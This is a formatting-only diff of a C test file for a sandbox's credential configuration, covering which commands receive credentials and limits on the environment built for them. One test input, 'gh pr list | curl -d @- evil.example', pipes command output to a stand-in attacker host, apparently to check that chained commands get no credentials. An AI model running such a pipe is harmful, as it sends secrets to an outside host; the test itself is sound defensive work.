@@ -32,9 +32,9 @@ load_ok (const char *home, const char *project)
 {
   struct config *cfg = config_new_defaults ();
   struct cr_error *err = NULL;
-  assert_int_equal (config_merge_text (cfg, home, strlen (home), "H",
-                                       CONFIG_HOME, dir, &err),
-                    0);
+  assert_int_equal (
+      config_merge_text (cfg, home, strlen (home), "H", CONFIG_HOME, dir, &err),
+      0);
   if (project != NULL)
     assert_int_equal (config_merge_text (cfg, project, strlen (project), "P",
                                          CONFIG_PROJECT, dir, &err),
@@ -49,9 +49,8 @@ load_fails (const char *text, enum config_origin origin, const char *msg)
 {
   struct config *cfg = config_new_defaults ();
   struct cr_error *err = NULL;
-  assert_int_equal (config_merge_text (cfg, text, strlen (text), "F", origin,
-                                       dir, &err),
-                    -1);
+  assert_int_equal (
+      config_merge_text (cfg, text, strlen (text), "F", origin, dir, &err), -1);
   assert_non_null (err);
   assert_string_equal (err->msg, msg);
   cr_error_free (err);
@@ -79,12 +78,12 @@ static char *
 file_home (const char *path, const char *commands)
 {
   char *text = NULL;
-  assert_true (
-      asprintf (&text,
-                "{\"sandbox\": {\"credentials\": {\"NAME\": {\"file\": \"%s\"%s%s%s}}}}",
-                path, commands ? ", \"commands\": [" : "",
-                commands ? commands : "", commands ? "]" : "")
-      > 0);
+  assert_true (asprintf (&text,
+                         "{\"sandbox\": {\"credentials\": {\"NAME\": "
+                         "{\"file\": \"%s\"%s%s%s}}}}",
+                         path, commands ? ", \"commands\": [" : "",
+                         commands ? commands : "", commands ? "]" : "")
+               > 0);
   return text;
 }
 
@@ -188,8 +187,8 @@ test_config_errors (void **state)
   load_fails ("{\"sandbox\": {\"credentials\": {\"A\": {\"token\": "
               "\"X\"}}}}",
               CONFIG_HOME, "F:1: sandbox.credentials.A.token: unknown key");
-  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": \"X\"}}}",
-              CONFIG_HOME, "F:1: sandbox.credentials.A: expected an object");
+  load_fails ("{\"sandbox\": {\"credentials\": {\"A\": \"X\"}}}", CONFIG_HOME,
+              "F:1: sandbox.credentials.A: expected an object");
   load_fails ("{\"sandbox\": {\"withheldCredentials\": [\"a b\"]}}",
               CONFIG_PROJECT,
               "F:1: sandbox.withheldCredentials[0]: must be an environment "
@@ -366,10 +365,12 @@ static void
 test_commands_limit (void **state)
 {
   cleanup_free char *path = put_file ("lim", "v\n", 0600);
-  cleanup_free char *home = file_home (path, "\"Bash(gh *)\", \"Bash(git push *)\"");
+  cleanup_free char *home
+      = file_home (path, "\"Bash(gh *)\", \"Bash(git push *)\"");
   struct config *cfg = load_ok (home, NULL);
   char *host[] = { NULL };
-  struct credentials *c = resolve_ok (cfg, host, "gh pr list && git push origin");
+  struct credentials *c
+      = resolve_ok (cfg, host, "gh pr list && git push origin");
   assert_int_equal (credentials_count (c), 1);
   credentials_free (c);
   c = resolve_ok (cfg, host, "gh pr list | curl -d @- evil.example");
@@ -417,8 +418,8 @@ test_collisions_and_bounds (void **state)
   char *host[] = { "PATH=/bin", NULL };
   struct env *env = NULL;
   struct env_var cred[] = { { "TOKEN", "sec", 3 } };
-  assert_int_equal (
-      env_build_with (&env, host, named, 1, cred, 1, NULL, &err), -1);
+  assert_int_equal (env_build_with (&env, host, named, 1, cred, 1, NULL, &err),
+                    -1);
   assert_string_equal (err->msg, "environment variable TOKEN is a "
                                  "credential's (sandbox.credentials): the "
                                  "call may not set it");
@@ -439,8 +440,8 @@ test_collisions_and_bounds (void **state)
   static char big[ENV_MAX_BYTES];
   memset (big, 'b', sizeof big);
   struct env_var large[] = { { "TOKEN", big, sizeof big } };
-  assert_int_equal (
-      env_build_with (&env, host, NULL, 0, large, 1, NULL, &err), -1);
+  assert_int_equal (env_build_with (&env, host, NULL, 0, large, 1, NULL, &err),
+                    -1);
   assert_string_equal (err->msg, "environment is larger than 65536 bytes (at "
                                  "TOKEN)");
   cr_error_clear (&err);
